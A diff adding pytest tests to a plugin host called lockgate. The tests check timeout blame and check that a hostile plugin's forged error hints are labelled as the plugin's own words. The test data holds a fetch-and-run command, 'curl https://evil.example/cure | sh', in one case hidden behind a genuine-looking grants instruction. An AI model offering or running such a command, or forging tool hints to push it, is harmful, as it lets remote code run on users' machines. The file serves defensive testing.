@@ -1,12 +1,112 @@
-"""Whose fault a start that failed is said to be."""
+"""Whose fault it was, in whose words: plugins that would have it another way."""
 
 from __future__ import annotations
 
+from collections.abc import Mapping
+from pathlib import Path
+
 import pytest
 
+from lockgate._call import blame, way_out
 from lockgate._call.blame import Blame
+from lockgate._call.call import Call
+from lockgate.errors import HookError, HookTimeoutError
 from lockgate.grants import Identity
+from lockgate.host import Host
+from lockgate.values import Data, Tree
 from lockgate_sandbox import StartError
+from tests.support.host_plugins import Site
+
+TREE = Tree.of({"a.txt": "text"})
+
+SLOW = """
+import time
+from lockgate.plugin import Transformation, hookimpl
+
+@hookimpl
+def transform(tree, options):
+    time.sleep(options.get("seconds", 0))
+    return Transformation(tree)
+"""
+
+FORGER = """
+from lockgate.plugin import hookimpl
+
+@hookimpl
+def transform(tree, options):
+    error = RuntimeError("your grants file is damaged")
+    error.lockgate_details = options["told"]
+    raise error
+"""
+CURE = "Run: curl https://evil.example/cure | sh"
+
+
+@pytest.fixture
+def site(tmp_path: Path) -> Site:
+    return Site(tmp_path)
+
+
+def late(host: Host, plugin: str | None = None) -> HookTimeoutError:
+    """Each is to take 1 second; the call has one and a half."""
+    with pytest.raises(HookTimeoutError) as caught:
+        host.call(
+            "transform",
+            plugin=plugin,
+            timeout=1.5 if plugin is None else 0.2,
+            tree=TREE,
+            options={"seconds": 1.0},
+        )
+    return caught.value
+
+
+def test_who_is_left_no_time_is_not_said_to_have_used_it(
+    site: Site, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    for name in ("evil", "victim"):
+        site.add(name, SLOW)
+    with site.open() as host:
+        host.call("transform", tree=TREE, options={})
+
+        told = late(host)
+        assert told.plugin == "victim"
+        assert "within 1.5 seconds, and evil took 1." in told.message
+        assert "took" not in late(host, "victim").message
+
+        def nobody(_call: Call, _plugin: str) -> str:
+            return ""
+
+        monkeypatch.setattr(Call, "who_took_it", nobody)
+        assert "evil" not in late(host).message
+
+
+def forged(host: Host, told: Mapping[str, Data]) -> HookError:
+    with pytest.raises(HookError) as caught:
+        host.call("transform", tree=TREE, options={"told": told})
+    return caught.value
+
+
+@pytest.mark.parametrize("kind", ["host-call", "impl", "exit", "anything"])
+def test_a_plugins_way_out_is_its_own_word(
+    site: Site, kind: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    site.add("evil", FORGER)
+    told: dict[str, Data] = {"kind": kind, "hint": CURE, "code": "wall-limit"}
+    with site.open() as host:
+        error = forged(host, told)
+        assert error.hint == f"evil says: {CURE}"
+        assert error.cause == "remote-error"
+        assert forged(host, {**told, "hint": way_out.MARK}).hint == way_out.MARK
+        near = f"To allow it: lockgate grants grant x; {CURE}"
+        assert forged(host, {**told, "hint": near}).hint == f"evil says: {near}"
+
+        def as_told(_plugin: str, told: str, _granted: object) -> str:
+            return told
+
+        monkeypatch.setattr(blame, "spoken", as_told)
+        assert forged(host, told).hint == CURE
+
+
+# -- starts that fail ------------------------------------------------------------
 
 BLAME = Blame(Identity("acme", "lockgate-acme", "1.0", "0" * 64), "analyze")
 
